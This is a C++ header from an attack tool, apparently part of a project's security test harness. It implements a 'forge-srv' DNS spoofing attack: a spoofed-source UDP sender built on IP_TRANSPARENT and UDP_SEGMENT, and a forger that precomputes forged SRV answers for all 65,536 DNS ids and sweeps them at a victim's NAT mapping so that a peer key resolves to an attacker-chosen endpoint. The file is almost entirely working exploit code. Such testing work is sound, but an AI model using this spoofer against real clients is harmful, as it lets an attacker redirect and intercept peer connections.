// `wgp_attack forge-srv`: forged SRV answers "the peer with `key` is at
// `forged`" for EVERY DNS id 0..65535, from a forged source (the registry's
// ip:port) to a target (a discovery client's NAT mapping), sweep after sweep,
// as fast as the kernel takes them. A client that asked its registry in plain
// DNS from a fixed port has only the 16-bit id to tell our answer from the
// registry's, and one sweep covers them all (issue 10, "What was found" 1).
//
// Every datagram is the same answer with another id, all 65,536 built before
// the clock starts. They leave from a UDP socket bound to the forged source
// (IP_TRANSPARENT) in runs of 64 (UDP_SEGMENT): the kernel carries each run
// as one packet as far as it can, through routing and netfilter in every
// namespace on the way, so a sweep takes a fraction of what datagrams sent
// one by one take, which on a loaded machine decides whether a sweep fits in
// the registry's round trip (test_discovery_attack.sh). Before sending,
// sample answers are checked: the product's own answer parser
// (dnssd::parse_srv_response, what discovery used on plain answers) accepts
// each as "kOk, `key` at `forged`" for its id.
#pragma once

#include <netinet/in.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <string>
#include <system_error>
#include <vector>

#include "attack_common.h"
#include "attack_dns.h"
#include "dnssd/discovery_query.h"
#include "util/unique_fd.h"

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

namespace wgp::attack {

constexpr uint64_t kIdSpace = 65536;

struct ForgePlan {
  Endpoint from;    // forged source: the registry's endpoint
  Endpoint target;  // the victim's endpoint (its NAT mapping)
  PublicKey key{};  // the peer the answers are about
  std::string zone;
  Endpoint forged;  // where the answers say the peer is
  uint64_t rounds = 1;
  double seconds = 5;
};

// UDP datagrams from an address that is not ours (IP_TRANSPARENT, which needs
// CAP_NET_ADMIN: root in the test's namespace) to one target, IPv4, in runs
// of up to kSegments equal-sized datagrams per send, kSends sends per system
// call. Blocking: a full send buffer waits instead of dropping.
class SpoofedUdpSender {
 public:
  static constexpr size_t kSegments = 64;  // the kernel's UDP_MAX_SEGMENTS
  static constexpr size_t kSends = 16;

  SpoofedUdpSender(const Endpoint& from, const Endpoint& to) {
    if (!from.address.is_v4() || !to.address.is_v4())
      throw std::invalid_argument("forge-srv is IPv4 only");
    int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) throw std::system_error(errno, std::generic_category(), "UDP socket");
    fd_ = UniqueFd(fd);
    int one = 1, buffer = 8 << 20;
    if (::setsockopt(fd, SOL_IP, IP_TRANSPARENT, &one, sizeof one) != 0)
      throw std::system_error(errno, std::generic_category(),
                              "IP_TRANSPARENT (needs CAP_NET_ADMIN, i.e. root)");
    (void)::setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &buffer, sizeof buffer);
    sockaddr_in a = address(from), b = address(to);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0)
      throw std::system_error(errno, std::generic_category(), "bind to " + from.to_string());
    if (::connect(fd, reinterpret_cast<sockaddr*>(&b), sizeof b) != 0)
      throw std::system_error(errno, std::generic_category(), "connect to " + to.to_string());
  }

  // Sends `count` datagrams of `size` bytes each, laid out back to back from
  // `data` (size at most 1,000 bytes). Returns how many the kernel took.
  size_t send(const uint8_t* data, size_t size, size_t count) {
    mmsghdr msgs[kSends] = {};
    iovec iovs[kSends];
    alignas(cmsghdr) char controls[kSends][CMSG_SPACE(sizeof(uint16_t))] = {};
    size_t taken = 0;
    while (count > 0) {
      size_t n = 0, in_call = 0;
      for (; n < kSends && in_call < count; ++n) {
        size_t segments = std::min(kSegments, count - in_call);
        iovs[n] = {const_cast<uint8_t*>(data + in_call * size), segments * size};
        msghdr& h = msgs[n].msg_hdr;
        h = {};
        h.msg_iov = &iovs[n];
        h.msg_iovlen = 1;
        h.msg_control = controls[n];
        h.msg_controllen = sizeof controls[n];
        cmsghdr* c = CMSG_FIRSTHDR(&h);
        c->cmsg_level = SOL_UDP;
        c->cmsg_type = UDP_SEGMENT;
        c->cmsg_len = CMSG_LEN(sizeof(uint16_t));
        uint16_t segment = uint16_t(size);
        std::memcpy(CMSG_DATA(c), &segment, sizeof segment);
        in_call += segments;
      }
      int r = ::sendmmsg(fd_.get(), msgs, unsigned(n), 0);
      if (r < 0 && errno == EINTR) continue;
      size_t sent_msgs = r > 0 ? size_t(r) : 0, accepted = 0;
      for (size_t i = 0; i < sent_msgs; ++i) accepted += iovs[i].iov_len / size;
      size_t consumed = accepted;
      if (sent_msgs < n) {  // the kernel refused the next send: count it, skip it (bounded)
        ++errors_;
        consumed += iovs[sent_msgs].iov_len / size;
      }
      taken += accepted;
      data += consumed * size;
      count -= consumed;
    }
    return taken;
  }

  uint64_t errors() const { return errors_; }

 private:
  static sockaddr_in address(const Endpoint& e) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(e.port);
    std::memcpy(&a.sin_addr, e.address.bytes.data(), 4);
    return a;
  }

  UniqueFd fd_;
  uint64_t errors_ = 0;
};

class SrvForger {
 public:
  explicit SrvForger(const ForgePlan& plan) : plan_(plan) {
    std::vector<uint8_t> first = forged_srv_answer(0, plan.key, plan.zone, plan.forged);
    size_ = first.size();
    answers_.resize(kIdSpace * size_);
    for (uint64_t id = 0; id < kIdSpace; ++id) {
      // The same answer with another id (its first two bytes).
      std::memcpy(&answers_[id * size_], first.data(), size_);
      store_be16(&answers_[id * size_], uint16_t(id));
    }
  }

  // Throws unless sample answers parse as the intended lie for their id.
  void self_check() const {
    for (uint32_t id : {0u, 1u, 0x1234u, 0x8000u, 0xfffeu, 0xffffu}) {
      ByteView dns(&answers_[id * size_], size_);
      auto answer = dnssd::parse_srv_response(dns, uint16_t(id), plan_.key, plan_.zone);
      if (answer.status != dnssd::AnswerStatus::kOk || !answer.peer ||
          answer.peer->endpoint != plan_.forged || answer.peer->key != plan_.key)
        throw std::logic_error("self-check: the forged answer does not parse as intended");
    }
  }

  size_t answer_size() const { return size_; }

  // Sweeps every id, plan.rounds times or until plan.seconds pass (both
  // capped), and prints the counts: sweeps done, the fastest and the slowest
  // whole sweep (a window of twice the slowest holds a whole sweep, wherever
  // it falls).
  void run() {
    SpoofedUdpSender sender(plan_.from, plan_.target);
    constexpr uint64_t kChunk = SpoofedUdpSender::kSegments * SpoofedUdpSender::kSends;
    uint64_t rounds = std::min<uint64_t>(plan_.rounds, kMaxPackets / kIdSpace);
    uint64_t sent = 0, done_rounds = 0;
    double fastest_ms = 0, slowest_ms = 0;
    Instant start = BootClock::now();
    auto deadline = start + std::chrono::microseconds(int64_t(plan_.seconds * 1e6));
    bool out_of_time = false;
    while (done_rounds < rounds && !out_of_time) {
      Instant sweep_start = BootClock::now();
      for (uint64_t first = 0; first < kIdSpace; first += kChunk) {
        if (BootClock::now() >= deadline) {
          out_of_time = true;
          break;
        }
        size_t n = size_t(std::min<uint64_t>(kChunk, kIdSpace - first));
        sent += sender.send(&answers_[first * size_], size_, n);
      }
      if (out_of_time) break;
      ++done_rounds;
      double ms = std::chrono::duration<double, std::milli>(BootClock::now() - sweep_start).count();
      if (fastest_ms == 0 || ms < fastest_ms) fastest_ms = ms;
      slowest_ms = std::max(slowest_ms, ms);
    }
    double took = std::chrono::duration<double>(BootClock::now() - start).count();
    std::printf(
        "rounds=%llu sent=%llu send_errors=%llu seconds=%.3f rate=%.0f sweep_ms=%.1f "
        "sweep_max_ms=%.1f answer_bytes=%zu forged=%s from=%s target=%s\n",
        (unsigned long long)done_rounds, (unsigned long long)sent,
        (unsigned long long)sender.errors(), took, took > 0 ? double(sent) / took : 0.0, fastest_ms,
        slowest_ms, size_, plan_.forged.to_string().c_str(), plan_.from.to_string().c_str(),
        plan_.target.to_string().c_str());
  }

 private:
  ForgePlan plan_;
  size_t size_ = 0;
  std::vector<uint8_t> answers_;  // kIdSpace answers of size_ bytes, id after id
};

}  // namespace wgp::attack
